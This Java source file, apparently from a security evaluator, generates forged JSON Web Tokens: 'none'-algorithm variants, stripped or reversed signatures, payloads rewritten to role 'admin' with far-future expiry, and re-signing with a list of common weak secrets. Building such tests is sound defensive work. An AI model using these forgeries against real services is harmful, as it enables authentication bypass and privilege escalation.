package dev.bluewright.evaluator.attack;

import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import tools.jackson.core.JacksonException;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Tokens made of a right one, as RFC 7519 writes them. Stateless. */
final class Jwt {
  private static final JsonMapper JSON = new JsonMapper();
  private static final List<String> WORDS =
      List.of(
          "secret",
          "password",
          "changeme",
          "change-me",
          "jwt-secret",
          "jwt_secret",
          "secretkey",
          "secret-key",
          "your-256-bit-secret",
          "your_jwt_secret",
          "supersecret",
          "key",
          "test",
          "");

  private Jwt() {}

  /** Without a signature, in the spellings of "none". */
  static List<String> unsigned(String token) {
    var all = new ArrayList<String>();
    for (var none : List.of("none", "None", "NONE")) {
      payload(token)
          .ifPresent(
              payload -> {
                var header = encoded("{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}");
                all.add(header + "." + encoded(payload.toString()) + ".");
              });
    }
    return all;
  }

  /** With another signature, without one, or with another payload; cut short where it is opaque. */
  static List<String> altered(String token) {
    var parts = token.split("\\.", -1);
    if (parts.length != 3) {
      return List.of(
          token.substring(0, Math.max(1, token.length() - 1)),
          token + "x",
          new StringBuilder(token).reverse().toString(),
          "undefined",
          "null");
    }
    var all = new ArrayList<String>();
    all.add(parts[0] + "." + parts[1] + "." + new StringBuilder(parts[2]).reverse());
    all.add(parts[0] + "." + parts[1] + ".");
    payload(token)
        .ifPresent(
            payload -> {
              payload.put("exp", 4_102_444_800L);
              payload.put("role", "admin");
              all.add(parts[0] + "." + encoded(payload.toString()) + "." + parts[2]);
            });
    return all;
  }

  /** Signed with words that people take for a key while they try something out. */
  static List<String> foreign(String token) {
    return payload(token)
        .map(payload -> WORDS.stream().map(word -> signed(payload, word)).toList())
        .orElse(List.of());
  }

  /** Expired, signed with the system's own key, where that is a usual word. */
  static List<String> expired(String token) {
    var parts = token.split("\\.", -1);
    return payload(token)
        .flatMap(
            payload ->
                WORDS.stream()
                    .filter(word -> parts[2].equals(signature(parts[0] + "." + parts[1], word)))
                    .findFirst()
                    .map(word -> List.of(signed(payload.put("exp", 1_000_000_000L), word))))
        .orElse(List.of());
  }

  private static Optional<ObjectNode> payload(String token) {
    var parts = token.split("\\.", -1);
    if (parts.length != 3) {
      return Optional.empty();
    }
    try {
      var json = JSON.readTree(Base64.getUrlDecoder().decode(parts[1]));
      return json instanceof ObjectNode object ? Optional.of(object) : Optional.empty();
    } catch (IllegalArgumentException | JacksonException e) {
      return Optional.empty();
    }
  }

  private static String signed(ObjectNode payload, String key) {
    var start = encoded("{\"alg\":\"HS256\",\"typ\":\"JWT\"}") + "." + encoded(payload.toString());
    return start + "." + signature(start, key);
  }

  private static String signature(String text, String key) {
    try {
      var mac = Mac.getInstance("HmacSHA256");
      var bytes = key.isEmpty() ? new byte[1] : key.getBytes(StandardCharsets.UTF_8);
      mac.init(new SecretKeySpec(bytes, "HmacSHA256"));
      return encoded(mac.doFinal(text.getBytes(StandardCharsets.UTF_8)));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String encoded(String text) {
    return encoded(text.getBytes(StandardCharsets.UTF_8));
  }

  private static String encoded(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }
}
